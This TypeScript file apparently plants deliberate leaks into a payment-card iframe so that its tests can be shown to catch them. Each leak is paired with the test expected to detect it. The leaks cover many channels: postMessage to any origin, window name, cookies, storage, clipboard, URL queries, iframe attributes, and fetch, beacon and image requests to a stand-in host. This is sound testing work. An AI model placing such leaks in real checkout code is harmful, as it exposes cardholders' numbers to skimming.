// Leaks by other ways than the port: windows, names, the history, storage, the network, the console, the page's own script.
import { by, type Plant, plants } from '../plant.ts'

const FIELD = 'frame/field/field.ts'
const METHODS = 'frame/field/methods.ts'
const REPORT = 'frame/field/report.ts'
/** Where each new value passes. */
const SENT = 'vault.send(editor.value())\n    tell(cause, '
const then = (code: string) => `vault.send(editor.value())\n    ${code}\n    tell(cause, `

const exits = by('exits', 'a field uses no way out')
const network = by('exits', 'frames talk to the gateway alone')
const sameState = by('same-state', 'a page hears the same of 4539578763621486')
const outside = by('outside', 'from outside a frame looks the same')

export const waysOut: Plant[] = [
  ...plants([
    [
      'message-value',
      'The value is posted to the page.',
      FIELD,
      SENT,
      then("parent.postMessage(editor.value(), '*')"),
      outside,
    ],
    [
      'message-digit',
      'Each digit is posted to the page in a message of its own.',
      FIELD,
      SENT,
      then("parent.postMessage({ digit: editor.value().slice(-1) }, '*')"),
      sameState,
    ],
    [
      'message-port',
      'The port of the vault goes to the page, too.',
      'frame/field/vault-link.ts',
      'vault?.postMessage(join, location.origin, [port2])',
      "vault?.postMessage(join, location.origin, [port2])\n      const { port1: own, port2: other } = new MessageChannel()\n      setTimeout(() => own.postMessage(current), 50)\n      parent.postMessage('', '*', [other])",
      by('connections', 'the window of a page hears one Hello'),
    ],
    [
      'window-name',
      'The value becomes the name of the frame’s window, which a page reads once it has navigated the frame to itself.',
      FIELD,
      SENT,
      then('window.name = editor.value()'),
      by('exits', 'navigates a frame to its own document'),
      exits,
    ],
    [
      'history-length',
      'The history grows by a step for each odd digit.',
      FIELD,
      SENT,
      then("if (/[13579]$/.test(editor.value())) history.pushState({}, '')"),
      outside,
    ],
    [
      'child-frames',
      'The frame has as many frames in it as its last digit says.',
      FIELD,
      SENT,
      then(
        "for (const old of document.querySelectorAll('iframe')) old.remove()\n    for (let at = 0; at < Number(editor.value().slice(-1)); at++) document.body.append(document.createElement('iframe'))",
      ),
      outside,
    ],
    [
      'focus-odd',
      'An odd digit gives the focus back to the page for a moment.',
      FIELD,
      SENT,
      then(
        'if (/[13579W]$/.test(editor.value())) { window.parent.focus(); setTimeout(() => { window.focus(); input.focus() }) }',
      ),
      sameState,
    ],
    [
      'address',
      'The value is written into the frame’s address, which a referrer or a log may repeat.',
      FIELD,
      SENT,
      then("history.replaceState({}, '', location.search + '&v=' + editor.value())"),
      exits,
    ],
    [
      'storage-local',
      'The value is stored in the browser.',
      FIELD,
      SENT,
      then("localStorage.setItem('value', editor.value())"),
      exits,
    ],
    [
      'storage-cookie',
      'The value is stored in a cookie.',
      FIELD,
      SENT,
      then("document.cookie = 'v=' + editor.value() + '; SameSite=None; Secure; Partitioned'"),
      exits,
    ],
    [
      'broadcast',
      'The value is sent to every frame of the gateway, whoever has embedded it.',
      FIELD,
      SENT,
      then("new BroadcastChannel('values').postMessage(editor.value())"),
      exits,
    ],
    [
      'clipboard',
      'What is typed is put on to the clipboard.',
      FIELD,
      SENT,
      then('void navigator.clipboard.writeText(editor.value()).catch(() => {})'),
      exits,
    ],
    [
      'document-title',
      'The frame’s title is what was typed.',
      FIELD,
      SENT,
      then('document.title = editor.value()'),
      exits,
    ],
    ['console', 'The value is logged.', FIELD, SENT, then('console.debug(editor.value())'), outside],
    [
      'uncaught',
      'An uncaught error has the value in its message.',
      FIELD,
      SENT,
      then('reportError(new Error(editor.value()))'),
      outside,
    ],
    [
      'own-query',
      'The vault puts the number into the address of its request, and so into logs.',
      'frame/vault/gateway.ts',
      'const response = await fetch(path, {',
      "const response = await fetch(body && 'number' in body ? path + '?n=' + body.number : path, {",
      network,
    ],
    [
      'answer-has-value',
      'A field answers with its value.',
      METHODS,
      'return isFocused(input)',
      'return isFocused(input) && (input.value as never)',
      by('lines', 'no member of a frame, whatever it is called with, answers with a value'),
      by('answers', 'answers with nothing but'),
    ],
    [
      'answer-has-sum',
      'A field answers with the sum of its digits.',
      METHODS,
      "reports.add(field.newReport(false), 'rules', undefined)",
      "reports.add(field.newReport(false), 'rules', undefined)\n      return [...input.value].reduce((sum, digit) => sum + Number(digit), 0) as never",
      by('answers', 'answers with nothing but'),
    ],
    [
      'refusal-value',
      'A refused token repeats the number.',
      'frame/vault/tokenize.ts',
      'return error ? errorText(texts, type, error) : []',
      "return error ? errorText(texts, type, error) + ' ' + value : []",
      by('answers', 'a refusal of the vault'),
    ],
    [
      'surcharge-digits',
      'The page learns the digits with which the surcharge was looked up.',
      'frame/vault/surcharge.ts',
      "onDecided(answer?.status === 200 && typeof surchargeable === 'boolean' ? surchargeable : 'unknown')",
      'onDecided(prefix as never)',
      by('answers', 'of a surcharge'),
    ],
    [
      'surcharge-each-digit',
      'The page hears of each digit behind the twelfth that the surcharge is looked up with.',
      'frame/vault/surcharge.ts',
      'number.slice(0, surchargeDigits)',
      'number',
      by('answers', 'of a surcharge'),
    ],
  ]),
  {
    id: 'page-title',
    does: 'A digit in the title of the page, by way of the port.',
    changes: [
      {
        file: REPORT,
        find: '...(token && { token }),\n',
        replace: '...(token && { token }),\n ...{ last: typed.slice(-1) },\n',
      },
      {
        file: 'src/frames/field.ts',
        find: 'methods: { changed: onChange } satisfies PageMethods,',
        replace: `methods: {
    changed(report: never, cause: never) {
      const { last, ...rest } = report as never as { last: string }
      if (last) document.title = 'Checkout ' + last
      onChange(rest as never, cause)
    },
  },`,
      },
    ],
    caughtBy: [outside],
  },
  {
    id: 'page-style',
    does: 'A length in the iframe’s style: it is as opaque as the last digit says.',
    changes: [
      {
        file: REPORT,
        find: '...(token && { token }),\n',
        replace: '...(token && { token }),\n ...{ last: typed.slice(-1) },\n',
      },
      {
        file: 'src/frames/field.ts',
        find: 'methods: { changed: onChange } satisfies PageMethods,',
        replace: `methods: {
    changed(report: never, cause: never) {
      const { last, ...rest } = report as never as { last: string }
      if (last) frame.iframe.style.opacity = String(0.9 + Number(last) / 100)
      onChange(rest as never, cause)
    },
  },`,
      },
    ],
    caughtBy: [outside],
  },
  {
    id: 'page-aria',
    does: 'A digit in an ARIA attribute of the iframe.',
    changes: [
      {
        file: REPORT,
        find: '...(token && { token }),\n',
        replace: '...(token && { token }),\n ...{ last: typed.slice(-1) },\n',
      },
      {
        file: 'src/frames/field.ts',
        find: 'methods: { changed: onChange } satisfies PageMethods,',
        replace: `methods: {
    changed(report: never, cause: never) {
      const { last, ...rest } = report as never as { last: string }
      if (last) frame.iframe.setAttribute('aria-valuenow', last)
      onChange(rest as never, cause)
    },
  },`,
      },
    ],
    caughtBy: [outside],
  },
  {
    id: 'page-size',
    does: 'The iframe grows with the last digit.',
    changes: [
      {
        file: REPORT,
        find: '...(token && { token }),\n',
        replace: '...(token && { token }),\n ...{ last: typed.slice(-1) },\n',
      },
      {
        file: 'src/frames/field.ts',
        find: 'methods: { changed: onChange } satisfies PageMethods,',
        replace: `methods: {
    changed(report: never, cause: never) {
      const { last, ...rest } = report as never as { last: string }
      if (last) frame.iframe.style.height = 40 + Number(last) + 'px'
      onChange(rest as never, cause)
    },
  },`,
      },
    ],
    caughtBy: [outside],
  },
  ...(
    [
      ['fetch', "void fetch('https://127.0.0.1:1/' + editor.value(), { mode: 'no-cors' }).catch(() => {})"],
      ['beacon', "navigator.sendBeacon('https://127.0.0.1:1/', editor.value())"],
      ['image', "new Image().src = 'https://127.0.0.1:1/' + editor.value()"],
    ] as const
  ).map(
    ([way, code]): Plant => ({
      id: `network-${way}`,
      does: `The value leaves by the network: ${way}.`,
      changes: [{ file: FIELD, find: SENT, replace: then(code) }],
      policy: "connect-src 'self' https:; img-src https:",
      caughtBy: [network],
    }),
  ),
  {
    id: 'policy-weak',
    does: 'The frame’s policy lets it talk to anybody.',
    changes: [],
    policy: 'connect-src https:',
    caughtBy: [by('exits', 'the policy of a frame')],
  },
]
